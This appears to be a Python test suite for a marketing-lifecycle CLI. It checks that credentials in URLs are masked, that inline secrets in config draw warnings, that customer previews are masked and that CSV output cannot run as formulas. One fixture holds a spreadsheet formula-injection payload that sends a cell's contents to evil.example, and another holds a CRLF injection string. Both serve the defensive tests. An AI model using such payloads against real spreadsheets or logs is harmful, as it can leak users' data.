"""No secret in the open: credentials in channel and warehouse URLs never reach a summary, an artifact
or the terminal; `check` warns about secrets written into lifecycle.yaml; dry-run previews mask the
customer as `plan` does; CSV outputs cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from flows.summary import format_counts, format_summary, outcome_lines, preview_lines
from tests.conftest import END, flow_run_artifacts, make_world

LIFECYCLE = str(Path(sys.executable).with_name("lifecycle"))
PASSWORD = "hunter2pw"


def cli(*args: str, cwd: Path | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([LIFECYCLE, *args], capture_output=True, text=True, cwd=cwd, timeout=300,
                          env={**os.environ, **(env or {})})


def _summary(**extra) -> dict:
    base = {"playbook": "p", "version": 1, "as_of": "2026-06-30", "dry_run": False, "customers": 10,
            "audience": 5, "unmatched": 0, "plan_hash": "abc", "model_version": None, "segments": {"a": 5},
            "segment_channel": {"a": {"sms": 5}}, "touches": {"sms": 5}, "dropped": {}, "outboxes": {}}
    return {**base, **extra}


def test_summary_lines_mask_credentials_in_outboxes_failures_and_reasons():
    s = _summary(outboxes={"sms": f"webhook https://bot:{PASSWORD}@hooks.example.com/send",
                           "push": "webhook https://hooks.example.com/push?token=" + PASSWORD},
                 failed={f"error_ConnectError: http://u:{PASSWORD}@h/x\r\nInjected": 2},
                 failed_steps={"dispatch": f"ConnectError: cannot reach https://bot:{PASSWORD}@hooks.example.com"})
    text = format_summary(s)
    assert PASSWORD not in text and "\r" not in text
    assert "outbox sms: webhook https://bot:***@hooks.example.com/send" in text
    assert "outbox push: webhook https://hooks.example.com/push?token=***" in text
    assert all(PASSWORD not in line for line in outcome_lines(s))
    assert format_counts({"a\nb": 1}) == "a b 1"


def test_dry_run_previews_are_masked_as_plan_masks_its_samples():
    previews = [{"segment": "vip", "tier": 0, "variant": None, "template": "t", "customer_id": "C00012342",
                 "first_name": "Meiling", "subject": "Meiling, a gift", "body": "Hi Meiling (C00012342), come back"}]
    [line] = preview_lines(previews)
    assert line == "preview vip/tier 1 C00****42: [M***, a gift] 'Hi M*** (C00****42), come back'"
    # a preview that does not say whose it is cannot be masked: its text is not shown
    [hidden] = preview_lines([{"segment": "vip", "tier": 0, "subject": None, "body": "Hi Meiling"}])
    assert "Meiling" not in hidden and "not shown" in hidden


def test_plan_and_the_dry_run_share_one_masking():
    from flows import preview
    from infra.redact import mask_id

    assert preview.mask is mask_id


@pytest.mark.slow
def test_a_credentialed_webhook_url_is_masked_in_the_run_summary_and_its_artifacts(prefect_harness, sqlite_url,
                                                                                  tmp_path, monkeypatch):
    """Before: the run summary and the summary artifact showed `webhook http://bot:PASSWORD@...`."""
    from flows.build import run_plan
    from flows.compiler import compile_file
    from infra.settings import SHIPPED_PLAYBOOKS, load_config
    from tests.tasks.fakes import FakeHTTP

    make_world(sqlite_url, customers=1500, seed=11)
    provider = FakeHTTP()
    try:
        host = provider.url.removeprefix("http://")
        config = tmp_path / "lifecycle.yaml"
        config.write_text("channels:\n  advisor: {type: outbox, consent: wecom}\n  sms: {type: outbox}\n"
                          "  email: {type: outbox}\n  push:\n    type: webhook\n"
                          f"    url: http://bot:{PASSWORD}@{host}/send?token={PASSWORD}\n")
        monkeypatch.setenv("LIFECYCLE_DB_URL", sqlite_url)
        monkeypatch.setenv("LIFECYCLE_CONFIG", str(config))
        path = SHIPPED_PLAYBOOKS / "new_customer_onboarding.yaml"
        summary = run_plan(compile_file(path, load_config()), str(path), END, dry_run=False, model_version=None)
    finally:
        provider.close()
    assert provider.accepted, "the push touches went to the webhook"
    assert summary["outboxes"]["push"] == f"webhook http://bot:***@{host}/send"
    text = format_summary(summary)
    assert f"outbox push: webhook http://bot:***@{host}/send" in text and PASSWORD not in text
    published = "\n".join(a.data if isinstance(a.data, str) else json.dumps(a.data)
                          for a in flow_run_artifacts(summary["flow_run_id"]))
    assert "outbox push: webhook http://bot:***@" in published
    assert PASSWORD not in published


def test_check_warns_once_about_secrets_written_in_the_config_and_still_passes(tmp_path):
    config = tmp_path / "lifecycle.yaml"
    config.write_text(
        f"warehouse: postgresql://lifecycle:{PASSWORD}@db:5432/lifecycle\n"
        "channels:\n  advisor: {type: outbox, consent: wecom}\n  push: {type: outbox}\n  email: {type: outbox}\n"
        "  sms:\n    type: webhook\n    url: https://hooks.example.com/send\n"
        f"    headers: {{Authorization: 'Bearer {PASSWORD}1234', X-Team: crm}}\n"
        "  mail:\n    type: email\n    host: smtp.example.com\n    from_address: crm@example.com\n"
        f"    password: {PASSWORD}\n"
        "  wecom_vip:\n    type: wecom\n    corp_id: ww1\n    secret: ${WECOM_SECRET}\n")
    r = cli("check", "--config", str(config), "new_customer_onboarding", env={"WECOM_SECRET": "x"})
    assert r.returncode == 0, r.stdout + r.stderr
    assert "ok  new_customer_onboarding" in r.stdout
    warnings = [line for line in r.stderr.splitlines() if "warning[L218]" in line]
    assert [w.split(": warning")[0] for w in warnings] == [f"{config}:1:12", f"{config}:9:30", f"{config}:14:15"]
    assert "header `Authorization` carries a credential" in r.stderr
    assert "`password` is written in the file as text" in r.stderr
    assert r.stderr.count("hint: put it in an environment variable and write `${NAME}` here") == 3
    assert PASSWORD not in r.stdout + r.stderr  # not even in the source lines shown with the caret
    assert "Traceback" not in r.stderr


def test_a_config_without_inline_secrets_gets_no_warning(tmp_path):
    config = tmp_path / "lifecycle.yaml"
    config.write_text("channels:\n  advisor: {type: outbox, consent: wecom}\n  push: {type: outbox}\n"
                      "  email: {type: outbox}\n  sms:\n    type: webhook\n"
                      "    url: https://bot:${HOOK_PW}@hooks.example.com/send?token=${HOOK_TOKEN}\n"
                      "    headers: {Authorization: 'Bearer ${HOOK_BEARER}'}\n")
    r = cli("check", "--config", str(config), "new_customer_onboarding",
            env={"HOOK_PW": "a", "HOOK_TOKEN": "b", "HOOK_BEARER": "c"})
    assert r.returncode == 0 and "warning[" not in r.stderr, r.stderr


def test_a_source_key_in_the_config_is_an_unknown_key_not_a_traceback(tmp_path):
    config = tmp_path / "lifecycle.yaml"
    config.write_text("source: mine\nchannels: {}\n")
    r = cli("check", "--config", str(config), "new_customer_onboarding")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert f"{config}:1:1: error[L204] unknown key 'source'" in r.stderr


def test_model_score_csv_cannot_run_as_a_formula(tmp_path):
    orders = tmp_path / "orders.csv"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = []
    for i in range(400):
        cid = evil if i == 0 else (f"+{i}" if i == 1 else f"C{i:05d}")
        for k in range(1 + i % 4):
            rows.append((f"o{i}-{k}", cid, f"2025-{1 + (i + 3 * k) % 12:02d}-{1 + (i * 7 + k) % 27:02d}", 10.0 + i % 50))
    with orders.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["order_id", "customer_id", "ordered_at", "amount"])
        w.writerows(rows)
    models = tmp_path / "models"
    assert cli("model", "train", "--orders", str(orders), "--as-of", "2025-10-31", "--horizon-days", "60",
               "--out", str(models)).returncode == 0
    model_dir = next(p for p in models.iterdir() if p.is_dir())
    out = tmp_path / "scores.csv"
    r = cli("model", "score", "--model", str(model_dir), "--orders", str(orders), "--as-of", "2025-12-31",
            "--out", str(out), "--reasons", "all")
    assert r.returncode == 0, r.stdout + r.stderr
    with out.open(newline="") as fh:
        scored = list(csv.DictReader(fh))
    by_id = {row["customer_id"]: row for row in scored}
    assert "'" + evil in by_id and "'+1" in by_id and "C00005" in by_id  # ids kept, formulas defused
    assert not any(v.startswith(("=", "+", "-", "@")) for row in scored for v in row.values())
    assert all(float(row["churn_probability"]) >= 0 for row in scored)  # numbers stay numbers


@pytest.mark.postgres
def test_db_status_masks_a_password_passed_in_the_query(pg_url):
    url = pg_url + ("&" if "?" in pg_url else "?") + f"password={PASSWORD}"
    assert cli("db", "upgrade", "--db", url).returncode == 0
    r = cli("db", "status", "--db", url)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "warehouse: postgresql" in r.stdout and "password=***" in r.stdout
    assert PASSWORD not in r.stdout + r.stderr


@pytest.mark.slow
def test_a_dry_run_prints_no_customer_name_or_id(tmp_path, sqlite_url):
    import pandas as pd

    engine = make_world(sqlite_url, customers=1500, seed=11)
    r = cli("run", "new_customer_onboarding", "--dry-run", "--as-of", END.isoformat(), "--db", sqlite_url,
            env={"LIFECYCLE_HOME": str(tmp_path / "home")})
    assert r.returncode == 0, r.stdout + r.stderr
    shown = [line for line in r.stdout.splitlines() if line.strip().startswith("preview ")]
    assert shown, r.stdout
    people = pd.read_sql("select customer_id, first_name from customers", engine)
    names = {n for n in people["first_name"].dropna() if len(n) > 2} | set(people["customer_id"])
    assert not [n for n in names if any(n in line for line in shown)]
